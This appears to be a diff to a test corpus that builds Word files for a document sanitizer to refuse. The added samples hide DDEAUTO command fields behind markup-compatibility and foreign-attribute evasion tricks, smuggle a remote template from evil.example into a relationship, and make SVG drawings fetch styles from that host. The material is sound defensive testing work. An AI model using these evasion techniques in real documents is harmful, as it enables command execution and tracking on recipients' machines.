@@ -1,9 +1,16 @@
 import { jpeg, png, text } from '../sample-files.ts';
 import { corpusFile } from './corpus-file.ts';
-import { field, makeDocx, paragraph, wordPart } from './make-docx.ts';
+import { code, field, makeDocx, mark, paragraph, wordPart } from './make-docx.ts';
 import { makeZip } from './make-zip.ts';
 
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>';
+
+const COMPATIBILITY = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
+const STYLES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';
+
+/** A drawing with styles of its own, and a text box in which a page number stands. */
+const styledSvg = svg.replace('<path', '<style>.a{fill:url(#b)}</style><path style="fill:url(#b)"');
+const textBox = `<w:p><w:r><mc:AlternateContent xmlns:mc="${COMPATIBILITY}"><mc:Choice xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" Requires="wps"><wps:txbx><w:txbxContent>${field(' PAGE ')}</w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>${field(' PAGE ')}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>`;
 
 function refused(name: string, holds: string, why: string, make: () => Buffer) {
   return corpusFile(name, 'fileNotPlain', holds, why, make);
@@ -54,15 +61,16 @@ export const wordDocuments = [
   corpusFile(
     'word-template.docx',
     'docx',
-    'A CV from a template of Word with drawn icons',
+    'A CV from a template of Word with drawn icons and a text box with a page number',
     'Drawings without scripts',
     () =>
       makeDocx({
+        body: textBox,
         relations: [
           ['rId3', 'image', 'media/image1.png'],
           ['rId4', 'image', 'media/image2.svg'],
         ],
-        parts: { 'word/media/image1.png': png, 'word/media/image2.svg': svg },
+        parts: { 'word/media/image1.png': png, 'word/media/image2.svg': styledSvg },
       }),
   ),
   corpusFile(
@@ -150,6 +158,68 @@ export const wordDocuments = [
       }),
   ),
   refused(
+    'dde-behind-alternative.docx',
+    'The same behind a field that begins in one alternative and ends in another',
+    'A field is in one alternative as a whole',
+    () =>
+      makeDocx({
+        body: `<w:p><mc:AlternateContent xmlns:mc="${COMPATIBILITY}"><mc:Choice Requires="w">${mark('begin')}</mc:Choice><mc:Fallback>${code('PAGE')}${mark('end')}</mc:Fallback></mc:AlternateContent>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
+      }),
+  ),
+  refused(
+    'dde-behind-passed-over.docx',
+    'The same behind elements that are passed over, two of them but for their content (ProcessContent)',
+    'A field is in one element as a whole',
+    () =>
+      makeDocx({
+        body: `<w:p xmlns:x="urn:x" xmlns:mc="${COMPATIBILITY}" mc:Ignorable="x" mc:ProcessContent="x:a"><x:a>${mark('begin')}</x:a><x:b>${code('PAGE ')}</x:b><x:a>${code('DDEAUTO cmd')}${mark('end')}</x:a></w:p>`,
+      }),
+  ),
+  refused(
+    'dde-behind-step.docx',
+    'The same behind a mark that has a second, foreign step',
+    'Attributes of another vocabulary do not count',
+    () =>
+      makeDocx({
+        body: `<w:p xmlns:x="urn:x"><w:r><w:fldChar x:fldCharType="separate" w:fldCharType="begin"/></w:r>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
+      }),
+  ),
+  refused(
+    'dde-behind-code.docx',
+    'The same as a simple field with a second, foreign code',
+    'Attributes of another vocabulary do not count',
+    () =>
+      makeDocx({
+        body: '<w:p xmlns:x="urn:x"><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>',
+      }),
+  ),
+  refused(
+    'dde-in-font.docx',
+    'The same in a header that is declared a scrambled font',
+    'A part is used as what it is declared to be',
+    () =>
+      makeDocx({
+        relations: [['rId3', 'header', 'a.odttf']],
+        parts: { 'word/a.odttf': wordPart('hdr', field('DDEAUTO cmd')) },
+      }),
+  ),
+  refused(
+    'template-behind-styles.docx',
+    'A template on a server, behind foreign attributes that tell of styles',
+    'Attributes of another vocabulary do not count',
+    () =>
+      makeDocx({
+        settings: [
+          [
+            'rId1',
+            'attachedTemplate',
+            `https://evil.example/a.dotm" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
+            'External',
+          ],
+        ],
+      }),
+  ),
+  refused(
     'included-picture.docx',
     'A field that fetches a picture, and tells when the document is read',
     'Not on the list of fields',
@@ -229,6 +299,22 @@ export const wordDocuments = [
         relations: [['rId3', 'image', 'media/a.svg']],
         parts: { 'word/media/a.svg': svg.replace('<path', '<script>x()</script><path') },
       }),
+  ),
+  ...[
+    ['imported', '<style>@import "https://evil.example/a.css";</style>'],
+    ['filled', '<path fill="url(https://evil.example/a.svg#a)"/>'],
+    ['styled', '<?xml-stylesheet href="https://evil.example/a.css"?>'],
+  ].map(([name, content]) =>
+    refused(
+      `${name}-drawing.docx`,
+      'A drawing (SVG) that fetches its looks from a server',
+      'Drawings have to be whole',
+      () =>
+        makeDocx({
+          relations: [['rId3', 'image', 'media/a.svg']],
+          parts: { 'word/media/a.svg': svg.replace('<path', `${content}<path`) },
+        }),
+    ),
   ),
   refused(
     'lying-size.docx',
